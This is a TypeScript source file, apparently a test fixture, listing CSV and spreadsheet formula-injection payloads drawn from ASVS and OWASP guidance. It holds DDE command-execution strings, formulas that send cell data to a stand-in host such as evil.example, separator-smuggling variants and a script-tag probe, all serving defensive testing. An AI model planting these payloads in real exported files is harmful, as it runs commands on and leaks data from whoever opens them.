/** Formulas, commands, markup and separators as attackers and careless people type them. Source of the signs: ASVS 5.0 §1.2.10, OWASP «CSV Injection». */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|\' /C calc\'!A0', '-cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '@cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example?x="&A1,"ok")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '\u200b=1+1', '\0=1+1',
  '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20A1', '"=1+1"', '";=1+1', '",=1+1', 'a;=1+1', 'a,=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n@A1',
  'a|=1+1', 'x,"=1+1', 'x;-cmd|1', '=2+5+cmd|\' /C calc\'!A0', '=A1', '{=1+1}', '<script>alert(1)</script>', ']]>&lt;&#61;1',
] // biome-ignore format: one payload after another is easier to scan
